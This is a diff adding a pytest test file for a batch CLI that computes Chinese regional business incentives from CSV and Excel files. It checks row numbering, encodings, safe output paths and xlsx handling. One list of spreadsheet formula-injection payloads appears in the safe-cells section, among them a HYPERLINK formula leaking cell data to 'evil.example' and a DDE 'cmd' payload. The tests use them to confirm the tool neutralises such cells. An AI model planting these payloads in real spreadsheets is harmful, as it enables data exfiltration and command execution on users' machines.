@@ -1,0 +1,443 @@
+"""batch with files made the way Excel and WPS make them (issue 10).
+
+Every good row written with its own row number, every bad row reported with
+its spreadsheet line and company name; no cell Excel would run as a formula;
+output files and pipes handled safely; .xlsx in and out.
+"""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import io
+import os
+import signal
+import stat
+import subprocess
+import sys
+import time
+from pathlib import Path
+
+import pytest
+from typer.testing import CliRunner
+
+from nanchang_incentives import api, csvio, xlsxio
+from nanchang_incentives.batch import BatchOptions, run_batch
+from nanchang_incentives.cli import app
+from nanchang_incentives.errors import InputError
+
+HEADER = "name,jurisdiction,year,revenue,open_source_products,smart_factory_investments"
+WUHAN = "wuhan-east-lake"
+
+
+@pytest.fixture(scope="module")
+def catalog():
+    return api.load()
+
+
+def read(path: Path) -> list[dict[str, str]]:
+    with open(path, newline="", encoding="utf-8-sig") as f:
+        return list(csv.DictReader(f))
+
+
+def good_row(i: int) -> str:
+    return f"公司{i},{WUHAN},2024,{i}万,,"
+
+
+# ---------------------------------------------------------------- 1. no row lost or renumbered
+
+
+def test_an_overflowing_row_among_100000_good_rows_is_one_bad_row(catalog, tmp_path):
+    rows = [good_row(i) for i in range(1, 100_002)]
+    # 10,000,000 open-source products × 50万 each (Wuhan §2(3)) = 5万亿亿 yuan: beyond 10万亿
+    rows[49_999] = f"溢出公司,{WUHAN},2024,1亿,10000000,"
+    src = tmp_path / "big.csv"
+    src.write_text(HEADER + "\n" + "\n".join(rows) + "\n", encoding="utf-8")
+    report = run_batch(src, tmp_path / "out.csv", catalog, errors_path=tmp_path / "bad.csv")
+    assert (report.rows, report.good_rows, report.bad_rows, report.output_rows) == (100_001, 100_000, 1, 100_000)
+    out = read(tmp_path / "out.csv")
+    assert [int(r["row"]) for r in out] == [k for k in range(1, 100_002) if k != 50_000]
+    assert out[49_999]["name"] == "公司50001"  # the row after the bad one keeps its number
+    (bad,) = read(tmp_path / "bad.csv")
+    assert (bad["row"], bad["line"], bad["name"], bad["field"], bad["value"]) == (
+        "50000", "50001", "溢出公司", "open_source_products", "10000000")
+    assert "clause open_source_product: an amount of more than 10,000,000,000,000 yuan" in bad["message"]
+
+
+def test_a_list_whose_sum_overflows_is_a_bad_row(catalog, tmp_path):
+    # eleven 99999亿 smart-factory projects: each within the limit, the list's raw sum is not
+    src = tmp_path / "a.csv"
+    src.write_text("name,jurisdiction,year,smart_factory_investments\n"
+                   f"十一个项目,nanchang,2024,{';'.join(['99999亿'] * 11)}\n"
+                   "正常公司,nanchang,2024,300万\n", encoding="utf-8")
+    report = run_batch(src, tmp_path / "o.csv", catalog)
+    assert (report.good_rows, report.bad_rows) == (1, 1)
+    p = report.problems[0]
+    assert (p.row, p.line, p.name, p.field) == (1, 2, "十一个项目", "smart_factory_investments")
+    assert "clause smart_factory" in p.message
+    assert [r["row"] for r in read(tmp_path / "o.csv")] == ["2"]
+
+
+def test_a_stray_quote_in_a_20000_row_file_loses_only_its_row(catalog, tmp_path):
+    rows = [good_row(i) for i in range(1, 20_001)]
+    rows[1] = '"' + rows[1]  # a quote that opens a cell and never closes
+    src = tmp_path / "q.csv"
+    src.write_text(HEADER + "\n" + "\n".join(rows) + "\n", encoding="utf-8")
+    report = run_batch(src, tmp_path / "out.csv", catalog, errors_path=tmp_path / "bad.csv")
+    assert (report.good_rows, report.bad_rows) == (19_999, 1)
+    out = read(tmp_path / "out.csv")
+    assert [int(r["row"]) for r in out] == [1, *range(3, 20_001)]
+    assert all(r["name"] == f"公司{r['row']}" for r in out)  # every result is tied to its own company
+    (bad,) = read(tmp_path / "bad.csv")
+    assert (bad["row"], bad["line"], bad["name"]) == ("2", "3", "公司2")
+    assert "a quote (\") opens a cell on this line" in bad["message"]
+
+
+def test_two_stray_quotes_close_to_each_other_resynchronise(catalog, tmp_path):
+    src = tmp_path / "q.csv"
+    src.write_text(HEADER + "\n" + "\n".join([
+        good_row(1), f'"甲,{WUHAN},2024,1万,,', f'乙"x,{WUHAN},2024,1万,,', good_row(4)]) + "\n", encoding="utf-8")
+    report = run_batch(src, tmp_path / "out.csv", catalog)
+    # row 2 opens a quote that row 3 "closes": row 2 is bad, row 3 (a literal quote inside a cell) is read
+    assert [r["row"] for r in read(tmp_path / "out.csv")] == ["1", "3", "4"]
+    assert [(p.row, p.line) for p in report.problems] == [(2, 3)]
+
+
+def test_lines_count_the_line_breaks_inside_quoted_cells(catalog, tmp_path):
+    src = tmp_path / "a.csv"
+    src.write_text(HEADER + "\n" + f'"两行\n名称",{WUHAN},2024,1万,,\n' + f"坏公司,{WUHAN},2024,-5,,\n",
+                   encoding="utf-8")
+    report = run_batch(src, tmp_path / "o.csv", catalog)
+    (p,) = report.problems
+    assert (p.row, p.line, p.name, p.field, p.value) == (2, 4, "坏公司", "revenue", "-5")
+
+
+def test_a_long_cell_is_clipped_in_messages(catalog, tmp_path):
+    src = tmp_path / "a.csv"
+    src.write_text(HEADER + "\n" + f"长,{WUHAN},2024,{'9' * 500_000}x,,\n", encoding="utf-8")
+    report = run_batch(src, tmp_path / "o.csv", catalog, errors_path=tmp_path / "bad.csv")
+    assert report.bad_rows == 1 and len(report.problems[0].value) <= 200
+    assert (tmp_path / "bad.csv").stat().st_size < 2_000
+
+
+# ---------------------------------------------------------------- 2. safe cells
+
+INJECTIONS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3+cmd",
+              "  =1+1"]
+
+
+def test_formula_like_names_are_written_with_a_leading_quote(catalog, tmp_path):
+    src = tmp_path / "a.csv"
+    with open(src, "w", newline="", encoding="utf-8") as f:
+        w = csv.writer(f)
+        w.writerow(["name", "jurisdiction", "year", "revenue"])
+        for name in INJECTIONS:
+            w.writerow([name, WUHAN, 2024, "1万"])
+            w.writerow([name, WUHAN, 2024, "-1"])  # a bad row: its name and value go to the errors file
+        w.writerow(["\t=1+1", WUHAN, 2024, "1万"])
+    run_batch(src, tmp_path / "o.csv", catalog, errors_path=tmp_path / "bad.csv")
+    names = [r["name"] for r in read(tmp_path / "o.csv")]
+    # names are trimmed (as in calc), then guarded
+    assert names == ["'" + n.strip() for n in INJECTIONS] + ["'=1+1"]
+    errors = read(tmp_path / "bad.csv")
+    assert [e["name"] for e in errors] == ["'" + n.strip() for n in INJECTIONS]
+    assert {e["value"] for e in errors} == {"'-1"}
+    raw = (tmp_path / "o.csv").read_text(encoding="utf-8") + (tmp_path / "bad.csv").read_text(encoding="utf-8")
+    for record in csv.reader(io.StringIO(raw)):
+        assert all(not c.lstrip(" ")[:1] in ("=", "+", "-", "@", "\t", "\r") for c in record)
+
+
+def test_no_xlsx_cell_is_a_formula(catalog, tmp_path):
+    openpyxl = pytest.importorskip("openpyxl")
+    src = tmp_path / "a.csv"
+    with open(src, "w", newline="", encoding="utf-8") as f:
+        w = csv.writer(f)
+        w.writerow(["name", "jurisdiction", "year"])
+        for name in INJECTIONS:
+            w.writerow([name, WUHAN, 2024])
+    run_batch(src, tmp_path / "o.xlsx", catalog, BatchOptions(fmt="xlsx"))
+    ws = openpyxl.load_workbook(tmp_path / "o.xlsx")["results"]
+    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
+    assert all(c.data_type in ("s", "n") for c in cells)  # never "f" (a formula)
+    assert [ws.cell(r, 2).value for r in range(2, 7)] == [n.strip() for n in INJECTIONS]  # text kept as typed
+
+
+# ---------------------------------------------------------------- 3. safe output files, pipes
+
+
+def write_good(path: Path, n: int = 3, encoding: str = "utf-8", newline: str = "\n") -> Path:
+    path.write_bytes((HEADER + newline + newline.join(good_row(i) for i in range(1, n + 1)) + newline)
+                     .encode(encoding))
+    return path
+
+
+def test_existing_permission_bits_are_kept(catalog, tmp_path):
+    out = tmp_path / "r.csv"
+    out.write_text("old\n")
+    os.chmod(out, 0o600)
+    run_batch(write_good(tmp_path / "a.csv"), out, catalog)
+    assert stat.S_IMODE(out.stat().st_mode) == 0o600 and out.read_text().startswith("row,")
+
+
+def test_devices_fifos_and_directories_are_refused(catalog, tmp_path):
+    src = write_good(tmp_path / "a.csv")
+    fifo = tmp_path / "pipe"
+    os.mkfifo(fifo)
+    for target, says in ((Path("/dev/zero"), "--output is a device"), (fifo, "--output is a named pipe"),
+                         (tmp_path, "--output is a directory")):
+        with pytest.raises(InputError, match=says):
+            run_batch(src, target, catalog)
+    assert stat.S_ISFIFO(fifo.stat().st_mode)
+
+
+def test_dev_null_is_written_to_and_left_a_device(catalog, tmp_path):
+    report = run_batch(write_good(tmp_path / "a.csv"), Path(os.devnull), catalog)
+    assert report.good_rows == 3 and stat.S_ISCHR(os.stat(os.devnull).st_mode)
+
+
+def test_a_device_as_input_is_a_message(catalog, tmp_path):
+    with pytest.raises(InputError, match="the input is a device"):
+        run_batch("/dev/zero", tmp_path / "o.csv", catalog)
+
+
+def test_stdin_in_and_stdout_out(tmp_path):
+    data = write_good(tmp_path / "a.csv").read_bytes()
+    res = CliRunner().invoke(app, ["batch", "-", "-o", "-", "--no-bom"], input=data,
+                             env={"NO_COLOR": "1", "COLUMNS": "200"})
+    assert res.exit_code == 0, res.output
+    lines = res.stdout.splitlines()
+    assert lines[0].startswith("row,name,policy") and [ln.split(",")[0] for ln in lines[1:4]] == ["1", "2", "3"]
+    assert "3 rows read" in res.stderr and "3 rows read" not in res.stdout  # the summary goes to stderr
+    assert not (tmp_path / "-").exists()
+
+
+def test_pipes_and_fifos_as_real_processes(tmp_path):
+    src = write_good(tmp_path / "a.csv")
+    cmd = [sys.executable, "-m", "nanchang_incentives", "batch"]
+    with open(src, "rb") as f:
+        piped = subprocess.run([*cmd, "/dev/stdin", "-o", "/dev/stdout", "-q"], stdin=f, capture_output=True,
+                               timeout=120, check=False)
+    assert piped.returncode == 0, piped.stderr
+    assert piped.stdout.decode().splitlines()[1].startswith("1,公司1,")
+    fifo = tmp_path / "in.fifo"
+    os.mkfifo(fifo)
+    proc = subprocess.Popen([*cmd, str(fifo), "-o", str(tmp_path / "o.csv"), "-q"], stderr=subprocess.PIPE)
+    with open(fifo, "wb") as w:
+        w.write(src.read_bytes())
+    assert proc.wait(timeout=120) == 0, proc.stderr.read() if proc.stderr else ""
+    assert len(read(tmp_path / "o.csv")) == 3
+
+
+def _children(pid: int) -> list[int]:
+    try:
+        return [int(x) for x in Path(f"/proc/{pid}/task/{pid}/children").read_text().split()]
+    except OSError:
+        return []
+
+
+@pytest.mark.skipif(not Path("/proc/self/task").exists(), reason="reads the process tree from /proc (Linux)")
+def test_kill_9_of_the_main_process_leaves_no_worker(tmp_path):
+    src = write_good(tmp_path / "a.csv", n=400_000)
+    proc = subprocess.Popen([sys.executable, "-m", "nanchang_incentives", "batch", str(src), "-o",
+                             str(tmp_path / "o.csv"), "--jobs", "2", "-q", "--layout", "long"],
+                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    workers: list[int] = []
+    deadline = time.monotonic() + 60
+    while not workers and time.monotonic() < deadline and proc.poll() is None:
+        time.sleep(0.05)
+        workers = _children(proc.pid)
+    assert workers, "the run ended before its workers could be seen"
+    os.kill(proc.pid, signal.SIGKILL)
+    proc.wait()
+    deadline = time.monotonic() + 10
+    alive = workers
+    while alive and time.monotonic() < deadline:
+        time.sleep(0.1)
+        alive = [w for w in workers if Path(f"/proc/{w}").exists()
+                 and "Z" not in Path(f"/proc/{w}/stat").read_text().split(")")[-1][:3]]
+    assert alive == []
+
+
+# ---------------------------------------------------------------- 4. Excel and WPS as they are
+
+
+def test_gbk_crlf_with_blank_and_totals_rows_as_excel_saves_it(catalog, tmp_path):
+    text = ("name,jurisdiction,year,revenue,open_source_products,smart_factory_investments\r\n"
+            f"{good_row(1)}\r\n,,,,,\r\n{good_row(3)}\r\n合计,,,4万,,\r\n,,,,,\r\n,,,,,\r\n")
+    src = tmp_path / "gbk.csv"
+    src.write_bytes(text.encode("gbk"))
+    report = run_batch(src, tmp_path / "o.csv", catalog, errors_path=tmp_path / "bad.csv")
+    assert (report.encoding, report.good_rows, report.bad_rows) == ("GB18030", 2, 0)
+    assert (report.blank_rows, report.skipped_rows) == (3, 1)
+    assert [(k.row, k.line, k.name, k.reason) for k in report.skipped] == [(4, 5, "合计", csvio.SkipReason.TOTALS)]
+    # GBK in -> UTF-8 with a BOM out, which Chinese Excel opens as text it can read
+    assert (tmp_path / "o.csv").read_bytes().startswith(b"\xef\xbb\xbfrow,name,")
+    assert report.output_encoding == "UTF-8 with BOM"
+    assert [r["row"] for r in read(tmp_path / "o.csv")] == ["1", "3"]
+    # with --year and --policy, blank and totals rows are still never evaluated
+    again = run_batch(src, tmp_path / "p.csv", catalog, BatchOptions(year=2024, policy_ids=(
+        "wuhan-east-lake-software-2023",)))
+    assert (again.good_rows, again.blank_rows, again.skipped_rows) == (2, 3, 1)
+
+
+@pytest.mark.parametrize("encoding,bom,options,expect_bom", [
+    ("utf-8", b"", BatchOptions(), False),
+    ("utf-8", b"\xef\xbb\xbf", BatchOptions(), True),
+    ("gbk", b"", BatchOptions(bom=False), False),
+    ("utf-8", b"", BatchOptions(bom=True), True),
+    ("utf-8", b"", BatchOptions(excel=True), True),
+])
+def test_the_output_bom_follows_the_input_unless_told(catalog, tmp_path, encoding, bom, options, expect_bom):
+    src = tmp_path / "a.csv"
+    src.write_bytes(bom + write_good(tmp_path / "plain.csv", encoding=encoding).read_bytes())
+    run_batch(src, tmp_path / "o.csv", catalog, options, errors_path=tmp_path / "bad.csv")
+    for out in (tmp_path / "o.csv", tmp_path / "bad.csv"):
+        assert out.read_bytes().startswith(b"\xef\xbb\xbf") == expect_bom
+
+
+def test_one_gbk_row_among_utf8_rows_is_one_bad_row(catalog, tmp_path):
+    src = tmp_path / "mixed.csv"
+    src.write_bytes((HEADER + "\n" + good_row(1) + "\n").encode() + good_row(2).encode("gbk") + b"\n"
+                    + (good_row(3) + "\n").encode())
+    report = run_batch(src, tmp_path / "o.csv", catalog)
+    assert (report.encoding, report.good_rows, report.bad_rows) == ("UTF-8", 2, 1)
+    assert (report.problems[0].row, report.problems[0].line) == (2, 3)
+
+
+# ---------------------------------------------------------------- 5. .xlsx in and out
+
+
+def make_workbook(path: Path) -> None:
+    """A consultant's workbook: numbers, amounts with units as text, a percent cell, a date, booleans,
+    a formula-looking name kept as text, a blank row and a totals row (XlsxWriter, as Excel stores them)."""
+    xlsxwriter = pytest.importorskip("xlsxwriter")
+    wb = xlsxwriter.Workbook(str(path))
+    wb.add_worksheet("说明").write_string(0, 0, "客户清单见下一页")
+    ws = wb.add_worksheet("客户")
+    pct = wb.add_format({"num_format": "0.00%"})
+    date = wb.add_format({"num_format": "yyyy-mm-dd"})
+    cols = ["name", "jurisdiction", "year", "revenue", "rd_expense", "rd_staff", "local_project_loans", "lpr_1y",
+            "is_listed", "smart_factory_investments", "revenue_prev", "industries"]
+    for c, name in enumerate(cols):
+        ws.write_string(0, c, name)
+    rows = [
+        ["南昌甲电子有限公司", "nanchang", 2024, 150000000, "1200万", 120, 50000000, 0.0345, True, "300万;150万",
+         "5000万", "electronic-information"],
+        ["=HYPERLINK(\"http://x\")", "nanchang", dt.date(2024, 6, 30), 1234.56, 600000.5, 8, None, None, False,
+         None, None, "electronic-information"],
+        [None] * 12,
+        ["武汉乙软件", "wuhan-east-lake", 2024, "2.5亿", 30000000, 50, None, "3.10%", None, None, None, "software"],
+        ["合计", None, None, 400001234.56, None, None, None, None, None, None, None, None],
+    ]
+    for r, row in enumerate(rows, start=1):
+        for c, v in enumerate(row):
+            if v is None:
+                continue
+            if isinstance(v, bool):
+                ws.write_boolean(r, c, v)
+            elif isinstance(v, dt.date):
+                ws.write_datetime(r, c, dt.datetime(v.year, v.month, v.day), date)
+            elif isinstance(v, (int, float)):
+                ws.write_number(r, c, v, pct if cols[c] == "lpr_1y" else None)
+            else:
+                ws.write_string(r, c, v)
+    wb.close()
+
+
+CSV_EXPORT = """name,jurisdiction,year,revenue,rd_expense,rd_staff,local_project_loans,lpr_1y,is_listed,\
+smart_factory_investments,revenue_prev,industries
+南昌甲电子有限公司,nanchang,2024,150000000,1200万,120,50000000,3.45%,TRUE,300万;150万,5000万,electronic-information
+"=HYPERLINK(""http://x"")",nanchang,2024,1234.56,600000.5,8,,,FALSE,,,electronic-information
+,,,,,,,,,,,
+武汉乙软件,wuhan-east-lake,2024,2.5亿,30000000,50,,3.10%,,,,software
+合计,,,400001234.56,,,,,,,,
+"""
+
+
+def test_an_xlsx_and_its_csv_export_give_the_same_results(catalog, tmp_path):
+    pytest.importorskip("openpyxl")
+    book = tmp_path / "clients.xlsx"
+    make_workbook(book)
+    (tmp_path / "clients.csv").write_text(CSV_EXPORT, encoding="utf-8")
+    for layout in ("wide", "long"):
+        a = run_batch(book, tmp_path / f"x-{layout}.csv", catalog, BatchOptions(layout=layout, sheet="客户"))
+        b = run_batch(tmp_path / "clients.csv", tmp_path / f"c-{layout}.csv", catalog, BatchOptions(layout=layout))
+        assert (a.good_rows, a.bad_rows, a.blank_rows, a.skipped_rows) == (3, 0, 1, 1)
+        assert (b.good_rows, b.bad_rows, b.blank_rows, b.skipped_rows) == (3, 0, 1, 1)
+        assert read(tmp_path / f"x-{layout}.csv") == read(tmp_path / f"c-{layout}.csv")
+    wide = {r["row"]: r for r in read(tmp_path / "x-wide.csv")}
+    # row 1: growth 1.5亿 − 5000万 = 1亿, exactly at the ≥ 1亿 threshold of 三(一); loans 5000万 × 50% × LPR
+    # 3.45% = 862,500.00 (under the 200万 cap); the percent cell is a rate, as the CSV's "3.45%"
+    assert wide["1"]["loan_interest"] == "862500.00"
+    assert wide["1"]["smart_factory"] == "2250000.00"  # (300万 + 150万) × 50%
+    assert wide["2"]["year"] == "2024"  # a date in the year column is its year
+    assert list(wide) == ["1", "2", "4"]
+
+
+def test_xlsx_money_with_more_than_4_decimals_is_a_bad_row(catalog, tmp_path):
+    xlsxwriter = pytest.importorskip("xlsxwriter")
+    book = tmp_path / "a.xlsx"
+    wb = xlsxwriter.Workbook(str(book))
+    ws = wb.add_worksheet()
+    for c, v in enumerate(["name", "jurisdiction", "year", "revenue"]):
+        ws.write_string(0, c, v)
+    ws.write_row(1, 0, ["精确", "nanchang", 2024, 1234.56789])
+    ws.write_row(2, 0, ["正常", "nanchang", 2024, 1234.5678])
+    wb.close()
+    report = run_batch(book, tmp_path / "o.csv", catalog)
+    assert (report.good_rows, report.bad_rows) == (1, 1)
+    p = report.problems[0]
+    assert (p.row, p.line, p.name, p.field, p.value) == (1, 2, "精确", "revenue", "1234.56789")
+
+
+def test_unknown_sheet_is_a_message_with_the_sheet_names(catalog, tmp_path):
+    book = tmp_path / "clients.xlsx"
+    make_workbook(book)
+    with pytest.raises(InputError, match="no sheet named '客'.*'说明', '客户'"):
+        run_batch(book, tmp_path / "o.csv", catalog, BatchOptions(sheet="客"))
+
+
+def test_xlsx_output_is_typed_frozen_filtered_and_has_the_budget(catalog, tmp_path):
+    openpyxl = pytest.importorskip("openpyxl")
+    src = tmp_path / "clients.csv"
+    src.write_text(CSV_EXPORT, encoding="utf-8")
+    run_batch(src, tmp_path / "r.csv", catalog, BatchOptions(bom=False))
+    report = run_batch(src, tmp_path / "r.xlsx", catalog, BatchOptions(fmt="xlsx"))
+    wb = openpyxl.load_workbook(tmp_path / "r.xlsx")
+    assert wb.sheetnames == ["results", "budget"]
+    ws = wb["results"]
+    assert ws.freeze_panes == "A2" and ws.auto_filter.ref == f"A1:{ws.cell(1, ws.max_column).column_letter}4"
+    header = [c.value for c in ws[1]]
+    rows = [dict(zip(header, (c.value for c in r))) for r in ws.iter_rows(min_row=2)]
+    csv_rows = read(tmp_path / "r.csv")
+    for x, c in zip(rows, csv_rows):  # the same figures, as numbers formatted #,##0.00
+        for key in ("total", "loan_interest", "smart_factory"):
+            if c[key]:
+                assert f"{x[key]:.2f}" == c[key]
+    assert ws.cell(2, header.index("total") + 1).number_format == "#,##0.00"
+    assert ws.column_dimensions["B"].width > 10  # fitted to the Chinese names
+    budget = [r for r in wb["budget"].iter_rows(values_only=True)]
+    total = next(r for r in budget if r[0] == "nanchang-electronic-information-2023" and str(r[1]).startswith("total"))
+    assert round(total[5] * 100) == report.budgets["nanchang-electronic-information-2023"].total
+
+
+def test_the_excel_row_limit_is_checked_before_writing(catalog, tmp_path, monkeypatch):
+    monkeypatch.setattr(xlsxio, "XLSX_MAX_ROWS", 5)
+    src = write_good(tmp_path / "a.csv", n=6)
+    with pytest.raises(InputError, match="6 input rows make up to 6 result rows, more than the 5"):
+        run_batch(src, tmp_path / "r.xlsx", catalog, BatchOptions(fmt="xlsx"))
+    assert list(tmp_path.iterdir()) == [src]  # nothing was written, not even a temporary file
+    run_batch(write_good(tmp_path / "b.csv", n=5), tmp_path / "r.xlsx", catalog, BatchOptions(fmt="xlsx"))
+
+
+def test_xlsx_to_stdout_is_refused(catalog, tmp_path):
+    with pytest.raises(InputError, match="cannot be streamed"):
+        run_batch(write_good(tmp_path / "a.csv"), "-", catalog, BatchOptions(fmt="xlsx"))
+
+
+def test_cell_texts_of_stored_numbers():
+    assert xlsxio.cell_text(0.0345, "0.00%", None) == "3.45%"
+    assert xlsxio.cell_text(1234.56, "General", None) == "1234.56"
+    assert xlsxio.cell_text(150000000.0, "#,##0", None) == "150000000"
+    assert xlsxio.cell_text(True, "General", None) == "true"
+    assert xlsxio._beyond_units(0.1 + 0.2) and not xlsxio._beyond_units(1234.5678)
